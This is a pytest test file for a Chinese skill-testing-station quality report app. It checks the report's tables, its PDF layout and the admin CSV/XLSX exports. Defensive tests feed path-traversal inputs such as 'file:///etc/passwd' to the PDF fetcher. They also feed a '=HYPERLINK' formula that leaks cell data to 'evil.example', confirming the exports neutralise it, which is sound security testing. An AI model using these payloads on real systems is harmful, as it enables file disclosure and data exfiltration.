"""The official report as a page and a PDF, and the administrators' CSV and XLSX results."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from app.extensions import db
from app.models import IN_PROGRESS
from app.services.reports.layout import COLUMN_WIDTHS, tables
from app.services.reports.pdf import NotFetched, StoreFetcher
from rubric import default_registry
from tests.conftest import FORM_VERSION_1
from tests.report_fixtures import demo_data, log_in, pdf_page_count, pdf_text  # noqa: F401

FORM = default_registry().get("station-quality", "1")
TABLES = ("表1-1", "表1-2", "表1-3", "表1-4", "表1-5", "表1-6")


def report_page(client, auth, demo, username="staff1", query=""):
    log_in(auth, username)
    response = client.get(f"/reports/assessments/{demo.finalized}{query}")
    assert response.status_code == 200
    return response.get_data(as_text=True)


def test_report_has_the_six_tables_with_the_printed_columns(client, auth, demo):
    page = report_page(client, auth, demo)
    assert "职业技能鉴定所（站）质量管理评估表（试行）" in page
    for table in TABLES:
        assert f'<p class="table-name">{table}</p>' in page
    for heading in ("大项", "中项", "小项", "评估分值", "评估方法和标准", "评估结果"):
        assert f"<th>{heading}</th>" in page or f'rowspan="2">{heading}</th>' in page
    # 表1-2 prints 评估内容 over its method column.
    second = page.split('<p class="table-name">表1-2</p>')[1].split('<p class="table-name">表1-3</p>')[0]
    assert 'rowspan="2">评估内容</th>' in second


def test_report_category_and_group_cells_span_their_rows(client, auth, demo):
    page = report_page(client, auth, demo)
    assert re.search(
        r'<th scope="rowgroup" rowspan="7" class="cell-category">1．<br>岗位设置情况<br>11分</th>', page
    )
    assert '<td rowspan="3" class="cell-group">1.5技术支持和财务管理岗位情况</td>' in page
    # Category 6 runs over 表1-4 to 表1-6 and is printed again at the top of each.
    assert page.count("6．<br>鉴定实施要求<br>32分") == 3
    assert '<td rowspan="2" class="cell-group">6.2考生资格的审核</td>' in page
    assert '<td rowspan="2" class="cell-group">6.2考生资格的复核</td>' in page


def test_report_fills_every_item_result_with_notes_for_deductions_and_not_applicable(client, auth, demo):
    page = report_page(client, auth, demo)
    assert len(re.findall(r'<tr data-item="', page)) == 61
    row = page.split('data-item="5.3.1"')[1].split("</tr>")[0]
    assert '<strong class="given">0</strong>' in row
    assert "发现问题" in row and "三楼考场引导标识褪色，无法辨认。" in row
    not_applicable = page.split('data-item="6.3.2"')[1].split("</tr>")[0]
    assert "不适用" in not_applicable and "本所鉴定职业均有国家题库。" in not_applicable
    full = page.split('data-item="1.1.1"')[1].split("</tr>")[0]
    assert '<strong class="given">2</strong>' in full and "result-note" not in full


def test_report_shows_station_date_assessors_totals_and_signatures(client, auth, demo):
    page = report_page(client, auth, demo)
    assert "北京市第一职业技能鉴定所（BJ001）" in page
    assert "王建国" in page
    assert "97 / 100" in page
    assert 'class="num grand-total">97<' in page
    assert "4．设备设施" in page
    assert page.count('class="signature-image" src="data:image/png;base64,') == 2
    assert "张明" in page


def test_report_appendix_groups_photos_by_item_with_captions_and_times(client, auth, demo):
    page = report_page(client, auth, demo)
    appendix = page.split('class="report-appendix"')[1]
    assert "4.1.1" in appendix and "5.3.1" in appendix
    assert f"/photos/{demo.photo}/image" in appendix
    assert "拍摄时间不详" in appendix or "拍摄于" in appendix


def test_report_with_rectification_adds_its_appendix(client, auth, demo):
    assert "report-rectification" not in report_page(client, auth, demo)
    page = report_page(client, auth, demo, query="?rectification=1")
    appendix = page.split('class="report-rectification"')[1]
    assert "三楼考场引导标识已全部更换为新标识牌。" in appendix
    assert "已答复" in appendix


def test_report_is_printable_on_a4(client, auth, demo):
    page = report_page(client, auth, demo)
    assert re.search(r'href="/static/css/report\.[0-9a-f]{12}\.css"', page) and "data-print" in page
    css = client.get("/static/css/report.css").get_data(as_text=True)
    assert "@media print" in css and "size: A4" in css


def test_assessor_sees_an_in_progress_report_as_a_draft(client, auth, demo):
    log_in(auth, "assessor1")
    page = client.get(f"/reports/assessments/{demo.in_progress}").get_data(as_text=True)
    assert "草稿：本次评估尚未定稿。" in page
    assert "未评分" in page


def test_pdf_is_an_a4_document_with_the_cjk_fonts(client, auth, demo):
    log_in(auth, "staff1")
    response = client.get(f"/reports/assessments/{demo.finalized}.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert "attachment" in response.headers["Content-Disposition"]
    data = response.data
    assert data.startswith(b"%PDF")
    assert 4 <= pdf_page_count(data) <= 10
    inflated = pdf_text(data)
    assert b"Noto-Sans-CJK-SC" in inflated and b"Noto-Serif-CJK-SC" in inflated
    assert b"/Subtype /Image" in inflated or b"/Subtype/Image" in inflated


def test_pdf_fetcher_reads_only_the_photo_store(tmp_path):
    fetcher = StoreFetcher(str(tmp_path))
    for url in (
        "http://example.com/x.jpg",
        "file:///etc/passwd",
        "upload:../../etc/passwd",
        "upload:" + "0" * 64,
    ):
        with pytest.raises(Exception) as error:
            fetcher.fetch(url)
        assert isinstance(error.value, (NotFetched, ValueError))


def test_rendering_a_pdf_keeps_truncated_photos_refused(client, auth, demo, app):
    from app.services import evidence
    from app.services.photos import demo_photo

    log_in(auth, "staff1")
    assert client.get(f"/reports/assessments/{demo.finalized}.pdf").status_code == 200
    truncated = demo_photo("x", (400, 300))[:-2000]
    with pytest.raises(evidence.RejectedPhoto):
        evidence.process(io.BytesIO(truncated), app.config["UPLOAD_DIR"])


@pytest.mark.parametrize("username", ["staff1", "assessor1"])
@pytest.mark.parametrize("url", ["/reports/results.csv", "/reports/results.xlsx"])
def test_only_admins_export_results(client, auth, demo, username, url):
    log_in(auth, username)
    assert client.get(url).status_code == 403


RESULT_HEADER = [
    "评估编号", "所（站）代码", "所（站）名称", "区域", "状态", "开始日期", "定稿日期",
    "评估组", "评估组长", "评估表", "评估表版本", "评估组长签字人", "评估组长签字状态",
    "评估组长签字时间", "所（站）代表签字人", "所（站）代表签字状态", "所（站）代表签字时间", "大项", "中项",
    "小项编号", "小项", "结果代码", "评估结果", "得分", "满分",
    "扣分", "不适用", "发现的问题数", "其中有严重问题", "抽查试卷数", "有阅卷差错的试卷数",
    "备注", "无照片原因", "评估总分", "整改期限", "整改状态", "整改说明",
    "整改答复人", "整改答复时间", "审核结果", "审核意见", "审核人", "审核时间",
]  # fmt: skip


def csv_rows(client, query=""):
    response = client.get(f"/reports/results.csv{query}")
    assert response.status_code == 200
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def xlsx_book(client, query=""):
    response = client.get(f"/reports/results.xlsx{query}")
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.data))


@FORM_VERSION_1
def test_csv_has_a_bom_and_one_row_per_assessment_and_item_headed_in_chinese(client, auth, demo):
    log_in(auth, "admin")
    response = client.get("/reports/results.csv")
    header = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert header == RESULT_HEADER
    rows = csv_rows(client, "?all=1")
    assert len(rows) == 61 * 2
    deduction = next(r for r in rows if r["所（站）代码"] == "BJ001" and r["小项编号"] == "5.3.1")
    assert deduction["评估编号"] == str(demo.finalized)
    assert (deduction["所（站）名称"], deduction["状态"], deduction["评估组"]) == (
        "北京市第一职业技能鉴定所",
        "已定稿",
        "王建国",
    )
    assert (deduction["大项"], deduction["中项"]) == ("5．考核鉴定场地要求", "5.3引导标识")
    assert (deduction["结果代码"], deduction["评估结果"]) == ("zero", "发现问题")
    assert (deduction["得分"], deduction["满分"], deduction["扣分"], deduction["不适用"]) == (
        "0",
        "1",
        "1",
        "否",
    )
    assert deduction["备注"] == "三楼考场引导标识褪色，无法辨认。"
    assert deduction["评估总分"] == "97"
    assert deduction["开始日期"] == deduction["定稿日期"] != ""
    assert (deduction["评估表"], deduction["评估表版本"]) == ("station-quality", "1")
    rate = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == "6.5.1")
    assert (rate["抽查试卷数"], rate["有阅卷差错的试卷数"], rate["发现的问题数"]) == ("40", "2", "")
    assert rate["无照片原因"] == "试卷属保密材料，现场不允许拍照。"
    not_applicable = next(r for r in rows if r["状态"] == "已定稿" and r["小项编号"] == "6.3.2")
    assert (not_applicable["不适用"], not_applicable["得分"]) == ("是", "3")
    unscored = next(r for r in rows if r["状态"] == "进行中" and r["小项编号"] == "9.2.1")
    assert (unscored["评估结果"], unscored["得分"], unscored["扣分"], unscored["定稿日期"]) == (
        "",
        "",
        "",
        "",
    )
    assert unscored["满分"] == "2"


def test_two_assessments_of_one_station_on_one_day_are_told_apart(client, auth, app, demo):
    from app.models import Station, User
    from app.services import assessments

    with app.app_context():
        station = db.session.get(Station, demo.bj001)
        user = db.session.scalar(db.select(User).filter_by(username="assessor2"))
        second = assessments.start_assessment(station, user).id
        db.session.commit()
    log_in(auth, "admin")
    rows = [r for r in csv_rows(client, "?station=BJ001&all=1") if r["小项编号"] == "1.1.1"]
    assert sorted(r["评估编号"] for r in rows) == sorted([str(demo.finalized), str(second)])
    assert len({(r["评估编号"], r["状态"], r["评估组"]) for r in rows}) == 2


def test_csv_headers_follow_the_ui_language(client, auth, demo):
    log_in(auth, "admin")
    client.post("/language", data={"language": "en", "csrf_token": auth.token})
    response = client.get("/reports/results.csv?station=BJ001")
    header = next(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert header[:5] == ["Assessment no.", "Station code", "Station name", "Region", "Status"]
    assert "Finalized" in response.data.decode("utf-8-sig")


def test_csv_keeps_codes_as_text_and_neutralises_formulas_without_changing_what_shows(
    client, auth, app, demo
):
    notes = {
        "1.1.1": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
        "1.2.1": "-2+3 处问题",
        "1.3.1": "@SUM(1)",
        "1.4.1": "+86 010 6555 0001",
        "1.5.2": "=" + "长" * 300,
    }
    record_in_progress(app, *((item_id, "zero", None, note) for item_id, note in notes.items()))
    log_in(auth, "admin")
    rows = {r["小项编号"]: r for r in csv_rows(client, "?status=in_progress")}
    assert set(rows) == {item.id for item in FORM.items}
    # OWASP's advice: a leading apostrophe, so the cell shows the text and never runs it.
    assert rows["1.1.1"]["备注"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"点此")'
    assert rows["1.2.1"]["备注"] == "'-2+3 处问题"
    assert rows["1.3.1"]["备注"] == "'@SUM(1)"
    assert rows["1.4.1"]["备注"] == "'+86 010 6555 0001"
    assert rows["1.5.1"]["备注"] == ""
    assert rows["1.5.2"]["备注"] == "'=" + "长" * 300
    assert rows["2.1.1"]["备注"] == ""


@pytest.mark.parametrize("text", ["\t制表符开头", "\r回车开头", '="1"'])
def test_text_starting_with_a_tab_or_return_is_neutralised_too(text):
    from app.services.reports.export import csv_text

    assert csv_text(text) == "'" + text


def test_xlsx_pivots_by_station_category_and_item_without_cleaning(client, auth, demo):
    import datetime

    log_in(auth, "admin")
    from openpyxl.utils import get_column_letter

    book = xlsx_book(client, "?all=1")
    results, totals, deductions = book.worksheets
    assert (results.title, totals.title, deductions.title) == ("小项评估结果", "评估汇总", "扣分项与整改")
    assert results.freeze_panes == "A2" and totals.freeze_panes == "A2"
    assert results.auto_filter.ref == f"A1:{get_column_letter(len(RESULT_HEADER))}{1 + 61 * 2}"
    item_text, item_code = (get_column_letter(RESULT_HEADER.index(name) + 1) for name in ("小项", "小项编号"))
    assert results.column_dimensions[item_text].width == 40
    assert results.column_dimensions[item_code].width == 9
    header, *rows = list(results.iter_rows(values_only=True))
    assert list(header) == RESULT_HEADER
    records = [dict(zip(header, row, strict=True)) for row in rows]
    for record in records:
        assert isinstance(record["评估编号"], int) and isinstance(record["满分"], int)
        assert isinstance(record["小项编号"], str) and isinstance(record["大项"], str)
        assert isinstance(record["开始日期"], datetime.datetime)
        assert record["得分"] is None or isinstance(record["得分"], int)
    finalized = [r for r in records if r["状态"] == "已定稿"]
    assert all(isinstance(r["定稿日期"], datetime.datetime) for r in finalized)
    by_category: dict = {}
    for record in finalized:
        key = (record["所（站）代码"], record["大项"])
        by_category[key] = by_category.get(key, 0) + record["得分"]
    assert by_category[("BJ001", "4．设备设施")] == 4
    assert sum(by_category.values()) == 97
    assert next(r for r in finalized if r["小项编号"] == "4.1.1")["评估结果"] == "发现1个问题"

    summary_header, *summary = list(totals.iter_rows(values_only=True))
    assert summary_header[:17] == tuple(RESULT_HEADER[:17])
    assert summary_header[17:20] == ("总分", "满分", "扣分")
    assert summary_header[20:] == tuple(f"{c.code}．{c.title}" for c in FORM.categories)
    bj001 = next(dict(zip(summary_header, row, strict=True)) for row in summary if row[1] == "BJ001")
    assert (bj001["总分"], bj001["满分"], bj001["扣分"], bj001["4．设备设施"]) == (97, 100, 3, 4)
    assert sum(bj001[f"{c.code}．{c.title}"] for c in FORM.categories) == 97


def test_xlsx_keeps_formula_text_as_text(client, auth, app, demo):
    record_in_progress(app, ("1.1.1", "zero", None, '=HYPERLINK("http://evil.example","点此")'))
    log_in(auth, "admin")
    results = xlsx_book(client, "?status=in_progress").worksheets[0]
    note_column = RESULT_HEADER.index("备注")
    code_column = RESULT_HEADER.index("小项编号")
    cell = next(row[note_column] for row in results.iter_rows(min_row=2) if row[code_column].value == "1.1.1")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (
        '=HYPERLINK("http://evil.example","点此")',
        "s",
        True,
    )


def test_export_filters_like_the_assessment_list(client, auth, demo):
    log_in(auth, "admin")
    rows = csv_rows(client, "?status=in_progress")
    assert len(rows) == 61 and {r["所（站）代码"] for r in rows} == {"SH002"}
    assert csv_rows(client, "?start=2000-01-01&end=2000-12-31") == []


def test_admin_assessment_list_links_the_exports_with_its_filters(client, auth, demo):
    log_in(auth, "admin")
    page = client.get("/admin/assessments?station=BJ001").get_data(as_text=True)
    assert "/reports/results.csv?station=BJ001" in page and "/reports/results.xlsx?station=BJ001" in page


def test_report_merges_method_cells_where_the_printed_form_does(client, auth, demo):
    page = report_page(client, auth, demo)
    method = "查阅文件（是否符合国家、地方/行业规定），现场提问，发现问题不得分。"
    assert f'<td class="cell-method" rowspan="3">{method}</td>' in page
    assert page.count(method) == 1
    assert page.count(">查看表单记录，发现问题不得分。</td>") == 3, "3.5.1-3.5.3 keep cells of their own"


LONG_NOTE = ("https://example.com/serials/" + "0123456789ABCDEF" * 40)[:500]


def record_in_progress(app, *findings, no_photo_reasons=None):
    """Record (item_id, outcome, inputs, note) on the demo's in-progress assessment, as its assessor,
    and the reasons why a deduction has no photo ({item_id: reason})."""
    from app.models import Assessment, User
    from app.services import assessments

    with app.app_context():
        assessment = db.session.scalar(db.select(Assessment).filter_by(status=IN_PROGRESS))
        user = db.session.scalar(db.select(User).filter_by(username="assessor1"))
        for item_id, outcome, inputs, note in findings:
            assessments.record_finding(
                assessment, item_id, outcome=outcome, inputs=inputs, note=note, user=user
            )
        for item_id, reason in (no_photo_reasons or {}).items():
            assessments.set_no_photo_reason(assessment, item_id, reason, user)
        db.session.commit()
        return assessment.id


def pdf_pages(app, assessment_id):
    """The text on each page of the report's PDF, as WeasyPrint laid it out."""
    from app.models import Assessment
    from app.services.reports import document
    from app.services.reports.drawing import lay_out
    from app.services.reports.pdf import report_html

    with app.test_request_context("/"):
        report = document.build(db.session.get(Assessment, assessment_id))
        laid_out = lay_out(report_html(report, with_rectification=False), app.config["UPLOAD_DIR"])
        return report, [
            "".join(box.text for box in page._page_box.descendants() if getattr(box, "text", None))
            for page in laid_out.pages
        ]


def test_report_tables_have_a_fixed_layout_at_the_printed_widths_and_notes_wrap_anywhere(client):
    css = client.get("/static/css/report.css").get_data(as_text=True)
    official = re.search(r"table\.official \{([^}]*)\}", css).group(1)
    assert "table-layout: fixed" in official and "width: 100%" in official
    assert "overflow-wrap: anywhere" in re.search(
        r"table\.official th, table\.official td \{([^}]*)\}", css
    ).group(1)
    assert COLUMN_WIDTHS == {"category": 8, "group": 13, "item": 22, "points": 6, "method": 31, "result": 20}


def test_a_long_note_moves_rows_to_a_continuation_page_that_repeats_category_and_group():
    from rubric import Result, default_registry, score

    form = default_registry().get("station-quality", "1")
    card = score(form, [Result("1.5.2", "zero", note=LONG_NOTE), Result("6.6.1", "zero", note=LONG_NOTE)])
    pages = tables(form, card)
    assert [page.name for page in pages if not page.continued] == list(TABLES)
    continued = [page for page in pages if page.continued]
    assert continued, "a 500-character note makes its table longer than a page"
    for page in continued:
        first = page.rows[0]
        assert first.category is not None and first.category_rows >= 1
        assert first.group is not None and first.group_rows >= 1
        assert first.method_rows >= 1, "a merged method cell is printed again on the new page"
    assert sum(len(page.rows) for page in pages) == 61


LONG_REASON = ("档案室正在装修，资料已整体封存于外地库房，现场无法拍照；" * 40)[:1000]
TITLE = "职业技能鉴定所（站）质量管理评估表（试行）"


@pytest.mark.parametrize(
    ("findings", "reasons"),
    [
        pytest.param(
            (("1.5.2", "zero", None, LONG_NOTE), ("6.6.1", "zero", None, LONG_NOTE)), {}, id="unbroken-note"
        ),
        pytest.param(
            (
                ("1.5.1", "zero", None, "缺员"),
                ("1.5.2", "zero", None, "缺员"),
                ("6.6.1", "zero", None, "缺表"),
            ),
            {"1.5.1": LONG_REASON[:500], "1.5.2": LONG_REASON[:500], "6.6.1": LONG_REASON},
            id="no-photo-reason",
        ),
    ],
)
def test_pdf_prints_each_table_from_the_top_of_its_own_pages(app, demo, findings, reasons):
    assessment_id = record_in_progress(app, *findings, no_photo_reasons=reasons)
    report, pages = pdf_pages(app, assessment_id)
    totals = next(number for number, text in enumerate(pages) if "各大项得分汇总" in text)
    starts = [number for number, text in enumerate(pages[:totals]) if text.startswith(("附件2", TITLE))]
    assert starts[0] == 0 and len(starts) == len(report.tables), "each table page starts under the title"
    for table, start, end in zip(report.tables, starts, [*starts[1:], totals], strict=True):
        name = table.name + ("（续）" if table.continued else "")
        head = pages[start].split("评估内容")[0]
        assert head.startswith("附件2" + TITLE if table is report.tables[0] else TITLE), name
        assert head.endswith(name), name
        assert end - start == 1 or table.tall, f"{name} spills onto a page without its title"
        header = f"评估内容评估分值{table.method_heading}评估结果大项中项小项"
        assert all(header in page for page in pages[start:end]), f"{name}: the header is repeated"
        # A row taller than a page goes on under the repeated header: read past it and the page number.
        text = "".join(re.sub(r"\d+ / \d+$", "", page).removeprefix(header) for page in pages[start:end])
        for row in table.rows:
            assert row.item.text in text, f"{row.item.id} is on its table's page"
            if row.no_photo_reason:
                assert "无照片：" + row.no_photo_reason in text, f"{row.item.id}: its whole no-photo reason"
        if table.continued:
            category = table.rows[0].category
            assert f"{category.code}．{category.title}{category.points}分" in text
    printed = {row.item.id: row.no_photo_reason for table in report.tables for row in table.rows}
    assert {item_id: reason for item_id, reason in printed.items() if reason} == reasons


def test_report_shows_counts_and_boundary_labels_that_agree(client, auth, app, demo):
    assessment_id = record_in_progress(
        app,
        ("6.5.1", None, {"papers_checked": 967, "papers_with_errors": 29}, ""),
        ("5.1.1", None, {"problems": 3}, "三处照明故障"),
    )
    log_in(auth, "assessor1")
    page = client.get(f"/reports/assessments/{assessment_id}").get_data(as_text=True)
    rate = page.split('data-item="6.5.1"')[1].split("</tr>")[0]
    assert "差错率低于3%" in rate and "差错率 2.99%" in rate and "3.0%" not in rate
    venue = page.split('data-item="5.1.1"')[1].split("</tr>")[0]
    assert "问题3个及以上或问题严重" in venue and "发现 3 个问题" in venue


def test_draft_totals_footer_is_the_sum_of_its_columns(client, auth, app, demo):
    assessment_id = record_in_progress(app, ("4.1.1", None, {"problems": 2}, "两台设备故障"))
    log_in(auth, "assessor1")
    page = client.get(f"/reports/assessments/{assessment_id}").get_data(as_text=True)
    totals = page.split('class="official totals"')[1].split("</table>")[0]
    body, footer = totals.split("<tfoot>")
    columns = list(
        zip(
            *re.findall(
                r'<td class="num">(\d*)</td>\s*<td class="num">(\d*)</td>\s*<td class="num">(\d*)</td>', body
            ),
            strict=True,
        )
    )
    footer_cells = re.findall(r'<td class="num[^"]*">(\d*)</td>', footer)
    assert [str(sum(int(v or 0) for v in column)) for column in columns] == footer_cells
    assert footer_cells[2] == "2"


def test_sign_off_uses_full_width_colons_and_no_stray_spaces(client, auth, app, demo):
    from app.models import Assessment, User
    from app.services.signoff import SignatureInput, record

    page = report_page(client, auth, demo)
    assert "姓名：张明" in page and "签字时间：" in page
    assert "姓名:" not in page and "签字时间:" not in page
    with app.app_context():
        assessment = db.session.get(Assessment, demo.finalized)
        user = db.session.scalar(db.select(User).filter_by(username="assessor1"))
        record(assessment, [SignatureInput("station_representative", "张明", "absent", note="出差")], user)
        db.session.commit()
    page = report_page(client, auth, demo)
    assert "由王建国记录，" in page and "由 王建国" not in page


def test_a_lone_assessor_is_listed_once_and_marked_lead(client, auth, demo):
    page = report_page(client, auth, demo)
    facts = page.split('class="report-facts"')[1].split("</dl>")[0]
    assert facts.count("王建国") == 1 and "王建国（组长）" in facts


def test_report_says_what_not_applicable_gave(client, auth, demo):
    page = report_page(client, auth, demo)
    row = page.split('data-item="6.3.2"')[1].split("</tr>")[0]
    assert re.search(r'<span class="result-policy" lang="[^"]+">不适用按满分计。</span>', row)
